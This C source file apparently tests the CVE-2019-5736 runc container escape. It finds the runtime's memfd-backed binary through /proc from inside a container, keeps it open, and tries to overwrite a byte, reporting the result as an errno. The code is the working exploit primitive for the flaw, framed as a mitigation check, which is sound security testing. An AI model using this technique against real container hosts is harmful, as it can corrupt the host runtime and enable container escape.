/*
 * Waits for a runtime's program in the container, as one appears when a program is run in it (CVE-2019-5736), keeps it
 * open and tries to write to it once nobody runs it. Prints "ready", "caught", then the errno, 0 when it was written to.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int catch_one(void)
{
    for (;;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *each; processes && (each = readdir(processes)) != NULL;) {
            char path[300], target[256] = "";
            snprintf(path, sizeof path, "/proc/%s/exe", each->d_name);
            if (!isdigit(each->d_name[0]) || readlink(path, target, sizeof target - 1) < 0 || !strstr(target, "memfd"))
                continue;
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd >= 0)
                return fd;
        }
        closedir(processes);
    }
}

int main(void)
{
    char path[64];
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("ready");
    snprintf(path, sizeof path, "/proc/self/fd/%d", catch_one());
    puts("caught");
    for (int tries = 0; tries < 200; tries++) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            printf("%d\n", pwrite(fd, "#", 1, 0) < 0 ? errno : 0);
            return 0;
        }
        if (errno != ETXTBSY)
            break;
        usleep(10000);
    }
    printf("%d\n", errno);
    return 0;
}
